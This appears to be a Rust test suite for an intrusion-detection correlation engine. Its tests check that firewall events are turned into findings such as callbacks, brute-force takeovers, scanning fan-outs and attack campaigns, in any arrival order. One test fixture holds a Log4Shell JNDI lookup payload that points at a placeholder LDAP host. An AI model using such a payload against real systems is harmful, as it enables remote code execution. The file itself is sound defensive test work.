//! Stories that only facts and findings together can tell, in order and in reverse.

#![expect(clippy::unwrap_used, reason = "all of this file is a test")]

mod common;

use std::collections::BTreeSet;
use std::net::IpAddr;

use common::*;
use hinomi_detect::Follow;
use hinomi_model::registry::Registry;
use hinomi_model::{
    Disposition as D, Event, Fact, FactBatch, Finding, FindingKind as K, Function as F, SessionKey, Settings,
    Subject,
};
use proptest::prelude::{Just, Strategy};

/// Runs events through one step each, in this order, then lets the windows pass. A follower that is written down and read
/// again before each step, and is given only the findings that it says it hears, says the same.
fn follow(town: &Registry, events: &[Event<'_>]) -> Vec<Finding> {
    let mut follow = Follow::new(Settings::default());
    let mut written = Follow::new(Settings::default()).encode(usize::MAX);
    let mut out = Vec::new();
    let mut step = |facts: &FactBatch, findings: &[Finding], now: i64| {
        let mut other = Follow::decode(&written, Settings::default()).unwrap();
        let heard: Vec<Finding> = findings.iter().filter(|finding| Follow::hears(finding)).cloned().collect();
        let said = follow.step(facts, findings, town, at(now));
        assert_eq!(other.step(facts, &heard, town, at(now)), said);
        written = other.encode(usize::MAX);
        out.extend(said);
    };
    for event in events {
        let examined = examine([event]);
        step(&examined.facts, &examined.findings, 0);
    }
    step(&FactBatch::default(), &[], 10_000);
    out
}

/// Checks that the events lead to these kinds whether they arrive in order, in reverse, all at once or twice.
fn tells(town: &Registry, events: &[Event<'_>], expected: &[K]) -> Vec<Finding> {
    let sorted = |findings: &[Finding]| {
        let mut kinds: Vec<K> = findings.iter().map(|finding| finding.kind).collect();
        kinds.sort_unstable();
        kinds.dedup();
        kinds
    };
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    let forward = follow(town, events);
    assert_eq!(sorted(&forward), expected, "in order");
    let mut reversed = events.to_vec();
    reversed.reverse();
    assert_eq!(sorted(&follow(town, &reversed)), expected, "in reverse");
    let mut once = Follow::new(Settings::default());
    let examined = examine(events);
    let mut all = once.step(&examined.facts, &examined.findings, town, at(0));
    let again = once.step(&examined.facts, &examined.findings, town, at(0));
    assert!(again.is_empty(), "a repeat is nothing new: {:?}", kinds(&again));
    all.extend(once.step(&Default::default(), &[], town, at(10_000)));
    assert_eq!(sorted(&all), expected, "at once");
    // A follower that starts anew says the same with the same ids.
    let mut anew = Follow::new(Settings::default());
    let mut second = anew.step(&examined.facts, &examined.findings, town, at(0));
    second.extend(anew.step(&Default::default(), &[], town, at(10_000)));
    assert_eq!(all, second);
    forward
}

#[test]
fn the_sessions_own_record_settles_the_outcome() {
    let town = town();
    let cases = [
        (120, Some(3), &[K::SessionFailed][..]),
        (320, Some(4), &[K::SessionFailed]),
        (321, Some(4), &[K::SessionAnswered]),
        (200, Some(5), &[K::SessionAnswered]),
        (320, None, &[K::SessionFailed]),
        (321, None, &[K::SessionAnswered]),
        (0, Some(0), &[K::SessionFailed]),
        (5_200, Some(9), &[K::SessionAnswered]),
    ];
    for (bytes, packets, expected) in cases {
        tells(&town, &[exploit(&town), session(&town, bytes, packets)], expected);
    }
}

#[test]
fn a_failure_is_told_to_the_source_too() {
    let town = town();
    let found = tells(&town, &[exploit(&town), session(&town, 120, Some(3))], &[K::SessionFailed]);
    let subjects: Vec<&Subject> = found.iter().map(|finding| &finding.subject).collect();
    assert!(subjects.contains(&&Subject::Host(ip(SERVER))));
    assert!(subjects.contains(&&Subject::Source(ip(ATTACKER), at(0).day())));
    assert!(found.iter().all(|f| f.sessions.len() == 1 && f.peers[0].ip == ip(ATTACKER)));
}

#[test]
fn bytes_of_decrypted_interim_and_foreign_sessions_prove_no_failure() {
    let town = town();
    let mut decrypted = session(&town, 120, Some(3));
    decrypted.decrypted = true;
    tells(&town, &[exploit(&town), decrypted.clone()], &[K::SessionAnswered]);
    decrypted.http_status = Some(404);
    tells(&town, &[exploit(&town), decrypted.clone()], &[K::SessionFailed]);
    decrypted.http_status = Some(403);
    tells(&town, &[exploit(&town), decrypted], &[K::SessionAnswered]);
    let mut interim = session(&town, 120, Some(3));
    interim.interim = true;
    tells(&town, &[exploit(&town), interim.clone()], &[]);
    interim.bytes_in = Some(9_000);
    tells(&town, &[exploit(&town), interim], &[K::SessionAnswered]);
    let mut other = session(&town, 120, Some(3));
    other.session_id = Some("8".into());
    tells(&town, &[exploit(&town), other], &[]);
    let mut late = session(&town, 120, Some(3));
    late.time = at(620);
    tells(&town, &[exploit(&town), late], &[]);
    let mut blocked = exploit(&town);
    blocked.disposition = D::Blocked;
    tells(&town, &[blocked, session(&town, 120, Some(3))], &[]);
}

#[test]
fn a_session_back_to_the_attacker_is_a_callback() {
    let town = town();
    let back = traffic(&town, 120, SERVER, ATTACKER, 1389);
    let found = tells(&town, &[exploit(&town), back.clone()], &[K::Callback]);
    assert_eq!(found[0].peers[0].port, Some(1389));
    assert_eq!(found[0].subject, Subject::Host(ip(SERVER)));
    let mut denied = back.clone();
    denied.disposition = D::Blocked;
    tells(&town, &[exploit(&town), denied], &[K::Callback]);
    // Near misses: too late, before, a late packet of the service, active FTP, a mere scanner's fingerprint.
    let mut late = back.clone();
    late.time = at(1_801);
    tells(&town, &[exploit(&town), late], &[]);
    let mut before = back.clone();
    before.time = at(-5);
    tells(&town, &[exploit(&town), before], &[]);
    let mut reply = back.clone();
    reply.src_port = Some(443);
    tells(&town, &[exploit(&town), reply], &[]);
    let mut recon = exploit(&town);
    recon.signature = Some("ZmEu.Vulnerability.Scanner".into());
    tells(&town, &[recon, back], &[]);
}

#[test]
fn an_address_that_the_payload_carried_is_a_callback_on_its_port() {
    let town = town();
    let mut event = exploit(&town);
    event.raw = r#"attack="x" url="/?x=${jndi:ldap://192.0.2.66:443/a}""#;
    tells(&town, &[event.clone(), traffic(&town, 60, SERVER, "192.0.2.66", 443)], &[K::Callback]);
    tells(&town, &[event, traffic(&town, 60, SERVER, "192.0.2.66", 80)], &[]);
}

#[test]
fn other_contacts_count_on_unusual_ports_only_and_once() {
    let town = town();
    let update = traffic(&town, 60, SERVER, "192.0.2.80", 443);
    tells(&town, &[exploit(&town), update], &[]);
    let events = [
        exploit(&town),
        traffic(&town, 60, SERVER, "192.0.2.80", 4444),
        traffic(&town, 90, SERVER, "192.0.2.80", 4444),
    ];
    let found = tells(&town, &events, &[K::OtherContact]);
    assert_eq!(found.len(), 1);
}

#[test]
fn a_hundred_outside_hosts_in_ten_minutes_are_a_fan_out() {
    let town = town();
    let fan = |hosts: i64, step: i64, port: u16| -> Vec<Event<'_>> {
        (0..hosts).map(|n| denied(&town, n * step, format!("203.0.113.{n}"), port)).collect()
    };
    let found = tells(&town, &fan(150, 3, 445), &[K::FanOut]);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].peer_count, found[0].disposition), (100, D::Blocked));
    tells(&town, &fan(99, 3, 445), &[]);
    tells(&town, &fan(150, 10, 445), &[]);
    // The same hundred hosts on 443 count only because they were denied.
    tells(&town, &fan(120, 3, 443), &[K::FanOut]);
    let browsing: Vec<Event<'_>> =
        (0..150).map(|n| traffic(&town, n, CLIENT, &format!("203.0.113.{n}"), 443)).collect();
    tells(&town, &browsing, &[]);
}

#[test]
fn twenty_inside_hosts_are_a_fan_out_and_relays_do_their_work() {
    let town = town();
    let inside: Vec<Event<'_>> =
        (1..=20).map(|n| traffic(&town, n, CLIENT, &format!("10.1.33.{n}"), 445)).collect();
    tells(&town, &inside, &[K::FanOut]);
    tells(&town, &inside[..19], &[]);
    let mail: Vec<Event<'_>> =
        (0..150).map(|n| traffic(&town, n, MAIL, &format!("203.0.113.{n}"), 25)).collect();
    tells(&town, &mail, &[]);
    let spam: Vec<Event<'_>> =
        (0..150).map(|n| traffic(&town, n, CLIENT, &format!("203.0.113.{n}"), 25)).collect();
    tells(&town, &spam, &[K::FanOut]);
}

#[test]
fn a_success_after_a_run_is_a_takeover() {
    let town = town();
    let mut events: Vec<Event<'_>> =
        (0..30).map(|n| login(&town, n * 5, ATTACKER, "suzuki", false)).collect();
    let failures: u64 = tells(&town, &events, &[K::PasswordRun]).iter().map(|finding| finding.count).sum();
    assert_eq!(failures, 30, "each failure is told once");
    events.push(login(&town, 200, ATTACKER, "suzuki", true));
    let found = tells(&town, &events, &[K::PasswordRun, K::PasswordTakeover]);
    let taken = found.iter().find(|finding| finding.kind == K::PasswordTakeover).unwrap();
    assert_eq!(
        (taken.users.as_slice(), &taken.subject),
        (&["suzuki".to_owned()][..], &Subject::Source(ip(ATTACKER), at(0).day()))
    );
    // Near misses: another account, another source, too late.
    for other in [
        login(&town, 200, ATTACKER, "tanaka", true),
        login(&town, 200, "203.0.113.10", "suzuki", true),
        login(&town, 145 + 3_601, ATTACKER, "suzuki", true),
    ] {
        *events.last_mut().unwrap() = other;
        tells(&town, &events, &[K::PasswordRun]);
    }
}

#[test]
fn five_accounts_are_a_run_and_any_success_takes_over() {
    let town = town();
    let mut events: Vec<Event<'_>> =
        (0..40).map(|n| login(&town, n * 5, ATTACKER, &format!("user{n}"), false)).collect();
    tells(&town, &events, &[K::PasswordRun]);
    events.push(login(&town, 300, ATTACKER, "guest", true));
    tells(&town, &events, &[K::PasswordRun, K::PasswordTakeover]);
    let nameless: Vec<Event<'_>> = (0..9).map(|n| login(&town, n, ATTACKER, "N/A", false)).collect();
    tells(&town, &nameless, &[K::PasswordFailures]);
}

#[test]
fn three_failures_and_a_success_are_a_person() {
    let town = town();
    let mut events: Vec<Event<'_>> =
        (0..3).map(|n| login(&town, n * 20, ATTACKER, "suzuki", false)).collect();
    tells(&town, &events, &[K::PasswordFailures]);
    events.push(login(&town, 90, ATTACKER, "suzuki", true));
    let found = tells(&town, &events, &[K::PasswordPerson]);
    assert_eq!(found[0].count, 3);
    tells(&town, &events[2..], &[]);
}

#[test]
fn guessing_from_inside_is_about_the_host() {
    let town = town();
    let mut events: Vec<Event<'_>> = (0..10).map(|n| login(&town, n * 5, CLIENT, "admin", false)).collect();
    events.push(login(&town, 200, CLIENT, "admin", true));
    let found = tells(&town, &events, &[K::PasswordRun, K::PasswordTakeover]);
    assert!(found.iter().all(|finding| finding.subject == Subject::Host(ip(CLIENT))));
}

#[test]
fn many_families_or_targets_are_a_campaign() {
    let town = town();
    let families = ["Apache.Log4j.RCE", "ThinkPHP.Controller.RCE", "Dasan.GPON.RCE"];
    let hit = |n: usize, name: &str, to: &str, way| attack(&town, n as i64, ATTACKER, to, name, way);
    let by_family: Vec<Event<'_>> = (0..3).map(|n| hit(n, families[n], SERVER, D::Detected)).collect();
    let found = tells(&town, &by_family, &[K::Campaign, K::InCampaign]);
    let member = found.iter().find(|finding| finding.kind == K::InCampaign).unwrap();
    assert_eq!((&member.subject, member.peers[0].ip), (&Subject::Host(ip(SERVER)), ip(ATTACKER)));
    tells(&town, &by_family[..2], &[]);

    let mut by_target: Vec<Event<'_>> =
        (0..5).map(|n| hit(n, families[0], &format!("10.1.200.{}", n + 1), D::Detected)).collect();
    tells(&town, &by_target[..4], &[]);
    by_target.push(hit(9, families[0], "10.1.200.99", D::Detected));
    let found = tells(&town, &by_target, &[K::Campaign, K::InCampaign]);
    let members = found.iter().filter(|finding| finding.kind == K::InCampaign).count();
    assert_eq!(members, 6, "targets hit later belong to it too");
    let peers: std::collections::BTreeSet<_> =
        found.iter().filter(|f| f.kind == K::Campaign).flat_map(|f| &f.peers).collect();
    let counted: u64 = found.iter().filter(|f| f.kind == K::Campaign).map(|f| f.count).sum();
    assert_eq!((peers.len(), counted), (6, 6));

    let blocked: Vec<Event<'_>> = (0..3).map(|n| hit(n, families[n], SERVER, D::Blocked)).collect();
    tells(&town, &blocked, &[]);
}

#[test]
fn the_client_behind_the_resolver_shows_itself_at_the_sinkhole() {
    let town = town();
    let mut asked = event(&town, 0, RESOLVER, "203.0.113.53");
    asked.function = F::Dns;
    asked.dst_port = Some(53);
    asked.log_id = Some("1501054601".into());
    asked.disposition = D::Blocked;
    asked.domain = Some("c2.example".into());
    let sunk = traffic(&town, 30, CLIENT, "72.5.65.111", 443);
    let found = tells(&town, &[asked.clone(), sunk], &[K::CcContact, K::ClientNamed]);
    let contact = found.iter().find(|finding| finding.kind == K::CcContact).unwrap();
    assert_eq!((&contact.subject, contact.relay), (&Subject::Host(ip(CLIENT)), None));
    assert_eq!(contact.indicators[0].value, "c2.example");
    let named = found.iter().find(|finding| finding.kind == K::ClientNamed).unwrap();
    assert_eq!(named.subject, Subject::Relayed(ip(RESOLVER), "c2.example".to_owned()));
    assert_eq!(named.host.as_ref().unwrap().ip, ip(CLIENT));
    tells(&town, &[asked, traffic(&town, 3_700, CLIENT, "72.5.65.111", 443)], &[]);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 24, failure_persistence: None, ..Default::default() })]

    #[test]
    fn cutting_the_input_into_steps_changes_no_sum(cuts in proptest::collection::vec(1usize..40, 1..12)) {
        let town = town();
        let mut events: Vec<Event<'_>> = (0..30).map(|n| login(&town, n * 5, ATTACKER, "suzuki", false)).collect();
        events.push(login(&town, 200, ATTACKER, "suzuki", true));
        events.extend((0..120).map(|n| denied(&town, n, format!("203.0.113.{n}"), 445)));
        events.extend((0..7).map(|n| attack(&town, n, ATTACKER, &format!("10.1.200.{}", n + 1), LOG4J, D::Detected)));
        events.extend([exploit(&town), session(&town, 120, Some(3)), traffic(&town, 120, SERVER, ATTACKER, 1389)]);
        let sums = |findings: &[Finding]| {
            let mut sums = std::collections::BTreeMap::<(K, String), u64>::new();
            for finding in findings {
                *sums.entry((finding.kind, format!("{:?}", finding.subject))).or_default() += finding.count;
            }
            sums
        };
        let whole = sums(&tells_at_once(&town, &events));
        let mut follow = Follow::new(Settings::default());
        let mut out = Vec::new();
        let mut rest = &events[..];
        for cut in cuts.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (step, later) = rest.split_at((*cut).min(rest.len()));
            rest = later;
            // One record a line: the examiner's own coalescing is not what is cut here.
            for event in step {
                let examined = examine([event]);
                out.extend(follow.step(&examined.facts, &examined.findings, &town, at(0)));
            }
        }
        out.extend(follow.step(&Default::default(), &[], &town, at(10_000)));
        proptest::prop_assert_eq!(sums(&out), whole);
    }
}

proptest::proptest! {
    #[test]
    fn a_contact_behind_two_attacks_is_the_same_whichever_was_read_first(
        order in Just((0..4_usize).collect::<Vec<_>>()).prop_shuffle(),
    ) {
        let town = town();
        let other = "203.0.113.99";
        let events = [
            exploit(&town),
            panos(&town, attack(&town, 30, other, SERVER, "Apache Struts OGNL Injection", D::Detected), "vulnerability", F::Ips),
            traffic(&town, 120, SERVER, "192.0.2.77", 8443),
            Event { log_type: "TRAFFIC".into(), ..panos(&town, traffic(&town, 130, SERVER, ATTACKER, 1389), "end", F::Firewall) },
        ];
        let said = |order: &[usize]| {
            let mut follow = Follow::new(Settings::default());
            let step = |number: &usize| {
                let examined = examine([&events[*number]]);
                follow.step(&examined.facts, &examined.findings, &town, at(0))
            };
            let mut said: Vec<Finding> = order.iter().flat_map(step).collect();
            said.sort_by_key(|finding| finding.id);
            said
        };
        let whole = said(&[0, 1, 2, 3]);
        proptest::prop_assert_eq!(kinds(&whole).len(), 3, "{:?}", kinds(&whole));
        proptest::prop_assert_eq!(said(&order), whole);
    }
}

/// Sessions of other hosts than the attacked server, more than are remembered: out of it, and into it.
fn flood(town: &Registry) -> FactBatch {
    let examined = examine([&traffic(town, 60, CLIENT, "192.0.2.80", 443), &session(town, 5_200, Some(9))]);
    let FactBatch { sources, objects, sessions, .. } = examined.facts;
    let (outward, inward) = (sessions[0], sessions[1]);
    let some = |number: u32| {
        let octets = number.to_be_bytes();
        let src_ip = IpAddr::from([10, 1 + octets[1], octets[2], octets[3]]);
        let session = Some(SessionKey(1 << 40 | u64::from(number)));
        [Fact { src_ip, session, ..outward }, Fact { session, src_ip: ip("192.0.2.81"), ..inward }]
    };
    let count = u32::try_from(Follow::MOST_OPENED).unwrap();
    FactBatch { sources, objects, sessions: (0..=count).flat_map(some).collect(), ..FactBatch::default() }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 12, failure_persistence: None, ..Default::default() })]

    #[test]
    fn whatever_came_between_a_question_and_its_answers_changes_nothing(
        order in Just((0..7_usize).collect::<Vec<_>>()).prop_shuffle(),
        floods in proptest::collection::btree_set(0..7_usize, 1..3),
    ) {
        let town = town();
        let attacks = [
            exploit(&town),
            attack(&town, 30, "203.0.113.99", SERVER, LOG4J, D::Detected),
        ];
        let sessions = [
            session(&town, 120, Some(3)),
            traffic(&town, 120, SERVER, ATTACKER, 1389),
            traffic(&town, 150, SERVER, "203.0.113.99", 4444),
            traffic(&town, 180, SERVER, "192.0.2.77", 8443),
            traffic(&town, 181, CLIENT, ATTACKER, 1389),
        ];
        let events: Vec<&Event<'_>> = attacks.iter().chain(&sessions).collect();
        let said = |follow: &mut Follow, order: &[usize], flood: &dyn Fn(usize) -> Option<FactBatch>| {
            let (mut all, mut seen) = (BTreeSet::new(), Vec::new());
            for (place, number) in order.iter().enumerate() {
                let examined = examine([events[*number]]);
                let mut found = follow.step(&examined.facts, &examined.findings, &town, at(0));
                seen.push(examined.facts);
                let missed = follow.take_missed();
                if missed.from().is_some() {
                    found.extend(seen.iter().flat_map(|facts| follow.recall(facts, &missed, &town, at(0))).collect::<Vec<_>>());
                }
                if let Some(flood) = flood(place) {
                    found.extend(follow.step(&flood, &[], &town, at(0)));
                }
                all.extend(found.into_iter().map(|finding| (finding.id, finding.kind)));
            }
            all
        };
        let in_order: Vec<usize> = (0..events.len()).collect();
        let whole = said(&mut Follow::new(Settings::default()), &in_order, &|_| None);
        let kinds: BTreeSet<K> = whole.iter().map(|(_, kind)| *kind).collect();
        proptest::prop_assert!([K::Callback, K::OtherContact, K::SessionFailed].iter().all(|kind| kinds.contains(kind)));
        let flood = flood(&town);
        let in_between = |place: usize| floods.contains(&place).then(|| flood.clone());
        let found = said(&mut Follow::new(Settings::default()), &order, &in_between);
        let found: BTreeSet<_> = found.into_iter().filter(|(_, kind)| *kind != K::FanOut).collect();
        proptest::prop_assert_eq!(found, whole);
    }
}

fn tells_at_once(town: &Registry, events: &[Event<'_>]) -> Vec<Finding> {
    let mut follow = Follow::new(Settings::default());
    let examined = examine(events);
    let mut out = follow.step(&examined.facts, &examined.findings, town, at(0));
    out.extend(follow.step(&Default::default(), &[], town, at(10_000)));
    out
}

#[test]
fn much_at_night_to_a_new_place_is_watched_and_a_habit_is_not() {
    let town = town();
    let told = |events: &[Event<'_>]| {
        let mut follow = Follow::new(Settings::default());
        let mut found = Vec::new();
        for event in events {
            let examined = examine([event]);
            found.extend(follow.step(&examined.facts, &examined.findings, &town, event.time));
        }
        let end = at(90 * 3_600);
        found.extend(follow.step(&Default::default(), &[], &town, end));
        assert!(follow.step(&Default::default(), &[], &town, end).is_empty(), "told once");
        found
    };
    let (new, other) = ("203.0.113.50", "203.0.113.51");
    let much = 320_000_000;
    let cases: [(&str, Vec<Event<'_>>, usize); 6] = [
        ("a first night", vec![upload(&town, 0, new, much)], 1),
        ("every night", (0..3).map(|n| upload(&town, 24 * n, new, much)).collect(), 0),
        (
            "a new place on the third night",
            {
                let mut nights: Vec<Event<'_>> = (0..3).map(|n| upload(&town, 24 * n, new, much)).collect();
                nights.push(upload(&town, 48, other, much));
                nights
            },
            1,
        ),
        ("too little", vec![upload(&town, 0, new, 200_000_000)], 0),
        ("at noon", vec![upload(&town, 11, new, much)], 0),
        (
            "in two sessions of one hour",
            vec![upload(&town, 0, new, much / 2), {
                let mut second = upload(&town, 0, new, much / 2);
                second.time = at(600);
                second
            }],
            1,
        ),
    ];
    for (name, events, expected) in cases {
        let found = told(&events);
        assert_eq!(found.len(), expected, "{name}: {:?}", kinds(&found));
        assert!(
            found.iter().all(|f| f.kind == K::Behaviour && f.what.as_deref() == Some("upload")),
            "{name}"
        );
    }
}

#[test]
fn a_flood_that_exhausts_the_device_is_told_with_the_flood() {
    let town = town();
    let flood = |way: D| {
        let mut event = event(&town, 0, ATTACKER, "198.51.100.10");
        event.function = F::Anomaly;
        event.log_subtype = "anomaly".into();
        event.signature = Some("udp_flood".into());
        event.disposition = way;
        event
    };
    let strain = |seconds: i64| {
        let mut event = event(&town, seconds, SERVER, ATTACKER);
        event.function = F::System;
        event.log_type = "event".into();
        event.log_subtype = "system".into();
        event.log_id = Some("0100022011".into());
        event
    };
    let found = tells(&town, &[flood(D::Detected), strain(120)], &[K::DeviceOverload]);
    assert_eq!(found[0].subject, Subject::Host(ip(SERVER)), "about the flood's target");
    tells(&town, &[flood(D::Detected), strain(7_200)], &[]);
    tells(&town, &[flood(D::Blocked), strain(120)], &[]);
}

/// The same record as the other member of a pair, or another relay, hands it on: a few milliseconds later, under a
/// session number of its own.
fn repeated<'r>(event: &Event<'r>) -> Event<'r> {
    let mut again = event.clone();
    again.time = hinomi_model::EventTime::from_nanos(event.time.nanos() + 7_000_000);
    again.session_id = Some("99001".into());
    again.raw = "the same, another way";
    again
}

#[test]
fn a_session_that_two_devices_log_counts_once() {
    let town = town();
    let fan: Vec<Event<'_>> = (0..100).map(|n| denied(&town, n * 3, format!("203.0.113.{n}"), 445)).collect();
    let both: Vec<Event<'_>> = fan.iter().flat_map(|event| [event.clone(), repeated(event)]).collect();
    let counts = |events: &[Event<'_>]| -> Vec<(u64, u64)> {
        tells_at_once(&town, events).iter().map(|found| (found.count, found.peer_count)).collect()
    };
    assert_eq!(counts(&both), [(100, 100)]);
    assert_eq!(counts(&both), counts(&fan));
    // 160 MB twice is not the 300 MB that are watched.
    let up = upload(&town, 0, "203.0.113.7", 160 << 20);
    let other = {
        let mut other = repeated(&up);
        other.src_port = Some(51_600);
        other
    };
    let told = |events: &[Event<'_>]| {
        let mut follow = Follow::new(Settings::default());
        let examined = examine(events);
        let mut found = follow.step(&examined.facts, &examined.findings, &town, at(0));
        found.extend(follow.step(&Default::default(), &[], &town, at(40 * 3_600)));
        kinds(&found)
    };
    assert_eq!(told(&[up.clone(), repeated(&up)]), []);
    assert_eq!(told(&[up, other]), [K::Behaviour]);
}

#[test]
fn a_log_in_that_both_members_of_a_pair_log_counts_once() {
    let yaml = r#"
version: 1
tenants:
  - id: kita
    name: {ja: 北市, en: Kita City}
    internal: [10.1.0.0/16, 198.51.100.0/24]
    devices:
      - {id: FGT60FTK20000001, vendor: fortigate, name: KITA-FW1, ha: kita}
      - {id: FGT60FTK20000002, vendor: fortigate, name: KITA-FW2, ha: kita}
"#;
    let pair = Registry::from_yaml(yaml).unwrap();
    let failures = (0..6).map(|n| login(&pair, n * 5, ATTACKER, "suzuki", false));
    let both: Vec<Event<'_>> = failures
        .flat_map(|event| {
            let mut other = repeated(&event);
            other.device = "FGT60FTK20000002".into();
            other.registration = pair.tenants()[0].devices.get(1);
            [event, other]
        })
        .collect();
    // Twelve records of six failures are no run of ten.
    let found = tells(&pair, &both, &[K::PasswordFailures]);
    assert_eq!(found.iter().map(|found| found.count).sum::<u64>(), 6);
}

/// Follows events that come hours late, in ten pieces at most, while the engine's time goes on by three minutes with each.
fn follow_late(town: &Registry, events: &[Event<'_>]) -> Vec<Finding> {
    let mut follow = Follow::new(Settings::default());
    let mut out = Vec::new();
    let pieces = events.len().min(10);
    for (piece, some) in (0_i64..).zip(events.chunks(events.len().div_ceil(pieces))) {
        let now = at(5 * 3_600 + piece * 180);
        out.extend(follow.step(&Default::default(), &[], town, now));
        let examined = examine(some);
        out.extend(follow.step(&examined.facts, &examined.findings, town, at(0)));
    }
    out
}

#[test]
fn what_comes_hours_late_still_meets_its_answer() {
    let town = town();
    let call = traffic(&town, 120, SERVER, ATTACKER, 1389);
    let guesses = (0..12).map(|n| login(&town, n * 5, ATTACKER, "suzuki", false));
    let success = login(&town, 100, ATTACKER, "suzuki", true);
    let cases: [(Vec<Event<'_>>, K); 4] = [
        (vec![exploit(&town), session(&town, 120, Some(3))], K::SessionFailed),
        (vec![call, exploit(&town)], K::Callback),
        ((0..110).map(|n| denied(&town, n, format!("203.0.113.{n}"), 445)).collect(), K::FanOut),
        (guesses.chain([success]).collect(), K::PasswordTakeover),
    ];
    for (events, expected) in cases {
        let found = follow_late(&town, &events);
        assert!(kinds(&found).contains(&expected), "{expected:?}: {:?}", kinds(&found));
    }
}

#[test]
fn a_run_that_comes_in_a_jumble_is_told_whole() {
    let town = town();
    let failures: Vec<Event<'_>> = (0..30).map(|n| login(&town, n * 5, ATTACKER, "suzuki", false)).collect();
    let jumbled: Vec<Event<'_>> = (0..30).map(|n| failures[n * 7 % 30].clone()).collect();
    let found = follow(&town, &jumbled);
    assert!(found.iter().all(|found| found.kind == K::PasswordRun), "{:?}", kinds(&found));
    assert_eq!(found.iter().map(|found| found.count).sum::<u64>(), 30);
}
